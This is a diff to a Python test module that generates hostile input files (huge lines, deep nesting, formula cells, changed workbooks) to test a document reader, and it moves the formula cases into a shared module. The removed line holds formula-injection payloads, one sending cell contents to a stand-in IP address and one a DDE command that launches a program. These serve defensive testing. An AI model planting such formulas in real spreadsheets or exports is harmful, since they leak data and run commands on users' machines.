@@ -7,11 +7,12 @@ from pathlib import Path
 
 from attrs import frozen
 
-from sicore.testing.tables import DELIMITED, WORKBOOK, read_delimited
+from sicore.testing.hostile_workbooks import WORKBOOKS, change_workbook
+from sicore.testing.tables import DELIMITED, FORMULAS, WORKBOOK, read_delimited
 
 COLUMNS = 200_000
+LINES = 50_000
 CELL = 4 * 2**20
-FORMULAS = ('=HYPERLINK("http://192.0.2.1/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3")
 
 _NOISE = bytes(number * 73 % 251 for number in range(4096))
 
@@ -39,8 +40,12 @@ def corpus(sample: Path, folder: Path) -> Iterator[Hostile]:
         path.write_bytes(told(content))
         yield Hostile(path=path, spoilt=spoilt, must_be_told=spoilt in _UNREADABLE)
     suffix = sample.suffix.lower()
-    others = _TABLES if suffix in DELIMITED else {} if suffix == WORKBOOK else _PAGES
-    for spoilt, made in others.items():
+    if suffix == WORKBOOK:
+        for spoilt, change in WORKBOOKS.items():
+            change_workbook(sample, path, change)
+            yield Hostile(path=path, spoilt=spoilt)
+        return
+    for spoilt, made in (_TABLES if suffix in DELIMITED else _PAGES).items():
         path.write_text(made(sample), encoding="utf-8", newline="")
         yield Hostile(path=path, spoilt=spoilt)
 
@@ -127,7 +132,7 @@ def _page(sample: Path) -> str:
 
 _PAGES: Mapping[str, Callable[[Path], str]] = {
     "with a line of megabytes": lambda sample: _page(sample) + "\n" + "Å" * CELL,
-    f"with {COLUMNS:,} further lines": lambda sample: _page(sample) + "\n" + "Etikett: värde\n" * COLUMNS,
+    f"with {LINES:,} further lines": lambda sample: _page(sample) + "\n" + "Etikett: värde\n" * LINES,
     "with formulas as its lines": lambda sample: _page(sample) + "\n".join(["", *FORMULAS]),
     "with elements nested deep": lambda sample: _page(sample).replace("<p>", "<div>" * 5_000 + "<p>", 1),
 }
